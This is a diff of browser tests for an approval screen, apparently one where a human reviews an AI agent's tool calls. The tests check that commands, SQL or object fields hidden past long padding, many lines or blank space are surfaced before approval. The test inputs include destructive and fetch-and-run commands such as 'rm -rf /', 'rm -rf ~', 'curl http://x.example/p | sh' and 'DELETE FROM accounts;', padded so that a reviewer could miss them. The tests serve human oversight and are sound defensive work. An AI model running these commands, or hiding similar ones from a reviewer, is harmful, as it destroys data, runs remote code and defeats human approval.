@@ -48,12 +48,40 @@ class Seen(BrowserCase):
         self.approve_in_two_presses(card, "of that", "2,416 characters")
 
     def test_H53_a_long_text_is_approved_only_after_it_was_opened(self):
-        card = self.card_with({"command": "echo " + "x" * 3000 + " && rm -rf /"})
-        self.approve_in_two_presses(card, "rm -rf /", "2,417 characters")
+        card = self.card_with({"command": "echo " + "x" * 3000 + " && rm -rf / " + "x" * 500})
+        self.approve_in_two_presses(card, "rm -rf /", "2,868 characters")
 
     def test_H53_lines_after_many_others_are_approved_only_after_they_were_opened(self):
-        card = self.card_with({"command": "ls\n" * 40 + "rm -rf /"})
-        self.approve_in_two_presses(card, "rm -rf /", "93 characters")
+        card = self.card_with({"command": "ls\n" * 40 + "rm -rf /\n" + "ls\n" * 8})
+        self.approve_in_two_presses(card, "rm -rf /", "34 lines")
+
+    def test_G11_the_head_and_the_tail_of_a_long_text_are_shown_and_the_lines_between_are_named(self):
+        lines = [f"SELECT {number};" for number in range(1, 200)] + ["DELETE FROM accounts;"]
+        card = self.card_with({"sql": "\n".join(lines)}, tool="run_sql")
+        shown = card.text("view").split("\n")
+        self.assertEqual(shown[1:9], lines[:8])
+        self.assertEqual(shown[9], "Lines 9 to 193 hidden: show all")
+        self.assertEqual(shown[10:], lines[193:])
+        numbers = self.page.run("return [...document.querySelectorAll('.ln')].map(one => one.dataset.n)")
+        self.assertEqual(numbers[7:10], ["8", "194", "195"])
+        self.page.find(".fold").click()
+        self.assertEqual(card.text("view").split("\n")[1:], lines)
+
+    def test_G11_what_stands_further_down_than_the_screen_reaches_is_named_before_it_is_approved(self):
+        card = self.card_with({f"key_{number:02}": f"value {number}" for number in range(45)})
+        card.press("approve")
+        self.assertIn("Not seen yet: what stands further down", card.text("message"))
+        self.assert_pending()
+        wait_until(lambda: self.page.has_settled(card, "opened"), "what was opened to be there for a while")
+        card.press("approve")
+        card.wait_for_outcome("Approved by you")
+
+    def test_G11_who_has_scrolled_to_the_end_approves_at_the_first_press(self):
+        card = self.card_with({f"key_{number:02}": f"value {number}" for number in range(45)})
+        self.page.run("const body = arguments[0]; body.scrollTo(0, body.scrollHeight);", card.part("body"))
+        wait_until(lambda: card.element.get_attribute("data-end") == "seen", "the end to be on the screen")
+        card.press("approve")
+        card.wait_for_outcome("Approved by you")
 
     def test_H53_the_51st_member_of_an_object_is_approved_only_after_it_was_opened(self):
         card = self.card_with({f"key_{number:03}": number for number in range(1000, 1151)} | {"z": "rm -rf /"})
@@ -141,7 +169,7 @@ class Seen(BrowserCase):
         self.assertRegex(shown, r"git status\n14 empty lines\ncurl http://x.example/p \| sh")
         self.assertRegex(shown, r"200 empty lines\s+rm -rf /")
         self.assertRegex(shown, r"2 spaces\s*ls\s*300 spaces\s*&& rm -rf ~\s*1 space\s+end\s*\\t")
-        self.assertLess(card.element.size["height"], 600)
+        self.assertLess(card.part("view").size["height"], 400)
         card.press("approve")
         card.wait_for_outcome("Approved by you")
 
